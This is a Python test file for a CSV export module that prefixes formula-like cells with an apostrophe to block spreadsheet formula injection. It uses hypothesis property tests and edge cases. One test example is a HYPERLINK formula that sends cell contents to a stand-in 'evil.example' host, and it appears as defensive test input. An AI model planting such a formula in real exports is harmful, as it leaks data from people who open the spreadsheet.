"""CSV parses back, and no cell is a formula."""

import csv
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from webinars.security import csv as tables
from webinars.security.csv import csv_lines, escape_formula

SIGNS = "=+-@\t\r\n\0＝＋－＠"
cells = st.text(st.sampled_from([*SIGNS, *"'\",; a١", "é", "\u200b", "\u3000"]), max_size=6)


def read(body):
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize("sign", SIGNS)
def test_formula_cell_is_prefixed_with_an_apostrophe(sign):
    assert escape_formula(f"{sign}1+1") == f"'{sign}1+1"


@pytest.mark.parametrize("cell", [" =1", "\u200b=1", "\u3000＝1", "\ufeff@A1", "\u00a0-1"])
def test_skipped_characters_do_not_hide_a_formula(cell):
    assert escape_formula(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "Ann", "a=b", "O'Neill", "name@example.org", "2026-11-25"])
def test_other_cells_are_unchanged(cell):
    assert escape_formula(cell) == cell


def test_every_cell_is_quoted_and_lines_end_with_crlf():
    body = b"".join(csv_lines([["Name", ""], ['The "best"', "é"]]))

    assert body == '\ufeff"Name",""\r\n"The ""best""","é"\r\n'.encode()


def test_table_without_rows_is_empty():
    assert b"".join(csv_lines([])) == b""


def test_lone_surrogate_does_not_abort_the_table():
    assert read(b"".join(csv_lines([["a\ud800b"], ["c"]]))) == [["a?b"], ["c"]]


def test_lines_are_streamed_while_rows_are_loaded():
    asked = []

    def rows():
        for number in range(3):
            asked.append(number)
            yield [str(number)]

    table = csv_lines(rows())
    next(table)

    assert asked == [0]


@settings(max_examples=200)
@given(st.lists(st.lists(cells, min_size=2, max_size=3), min_size=1, max_size=4))
@example([['=HYPERLINK("https://evil.example?"&A1)', "\r\n=1"]])
def test_any_table_parses_back_with_at_most_an_apostrophe_added(table):
    back = read(b"".join(csv_lines(table)))

    assert [[cell.removeprefix("'") for cell in row] for row in back] == [
        [cell.removeprefix("'") for cell in row] for row in table
    ]
    for row in back:
        for cell in row:
            assert cell.lstrip(" \u200b\u3000")[:1] not in tuple(SIGNS)


def test_line_as_long_as_a_form_is_one_cell():
    assert tables.parse_cells("a" * 200_000, ";") == ["a" * 200_000]
